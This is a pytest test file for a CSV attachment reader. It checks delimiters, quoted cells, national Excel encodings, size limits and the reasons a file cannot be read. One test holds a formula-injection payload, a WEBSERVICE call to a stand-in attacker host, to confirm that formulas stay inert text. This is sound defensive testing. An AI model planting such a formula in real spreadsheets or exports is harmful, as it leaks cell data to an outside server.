"""CSV as table lines: any delimiter, the encodings that Excel writes, and nothing calculated."""

import pytest

from shared.adapters.attachments.lines import MOST_ROWS
from shared.domain.attachment import MOST_CHARACTERS, Unread
from tests.adapters.attachments.reading import read


@pytest.mark.parametrize("mark", [",", ";", "\t", "|"])
def test_rows_become_table_lines_whatever_parts_the_cells(mark):
    lines = [["First name", "Surname", "Start"], ["Noor", "Haddad", "1.12.2026"], ["Ida", "", "2.12.2026"]]
    content = "\r\n".join(mark.join(line) for line in lines).encode()
    assert read(content, "new.csv").text == (
        "First name | Surname | Start\nNoor | Haddad | 1.12.2026\nIda |  | 2.12.2026"
    )


def test_quoted_cells_keep_their_commas_and_lose_their_line_breaks_and_bars():
    content = b'Name,Note\n"Haddad, Noor","first line\nsecond | third"\n'
    assert read(content, "new.csv").text == "Name | Note\nHaddad, Noor | first line second / third"


@pytest.mark.parametrize(
    ("country", "encoding", "name"),
    [
        ("CH", "utf-8", "Zoë Łódź"),
        ("CH", "utf-8-sig", "Zoë"),
        ("JP", "utf-16", "山田"),
        ("DE", "cp1252", "Jörg Weiß"),
        ("PL", "cp1250", "Łukasz Żak"),
        ("BG", "cp1251", "Иван"),
        ("GR", "cp1253", "Μαρία"),
        ("TR", "cp1254", "Gülşah Işık"),
        ("JP", "cp932", "山田"),
        ("LT", "cp1257", "Žydrūnė"),
    ],
)
def test_names_keep_their_letters_in_the_encodings_of_the_companys_country(country, encoding, name):
    assert read(f"Name;{name}\n".encode(encoding), "new.csv", country=country).text == f"Name | {name}"


def test_an_encoding_that_nothing_settles_is_not_guessed():
    """In Serbia both Windows-1250 and Windows-1251 are in use."""
    assert read("Name;Jovanović\n".encode("cp1250"), "new.csv", country="RS").unread is Unread.BROKEN


def test_a_formula_is_text_and_nothing_else():
    content = b'Name,=WEBSERVICE("https://evil.example/"&A1)\n'
    assert "=WEBSERVICE(https://evil.example/" in read(content, "new.csv").text.replace('"', "")


def test_only_so_many_rows_and_characters_are_read_and_that_is_said():
    many = read(b"a;b\n" * (MOST_ROWS + 1), "new.csv")
    assert (many.text.count("\n"), many.is_shortened) == (MOST_ROWS - 1, True)
    long = read(b"\n".join([b"x" * 900] * 100), "new.csv")
    assert (len(long.text), long.is_shortened) == (MOST_CHARACTERS, True)
    assert not read(b"a;b\n" * MOST_ROWS, "new.csv").is_shortened


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (b"", Unread.EMPTY),
        (b" \n\n", Unread.EMPTY),
        (b";;;\n;;;\n", Unread.EMPTY),
        (b"a\0b;c\n", Unread.BROKEN),
        (b"a," + b"x" * 200_000, Unread.BROKEN),
    ],
)
def test_what_cannot_be_read_is_answered_with_the_reason(content, why):
    assert read(content, "new.csv").unread is why
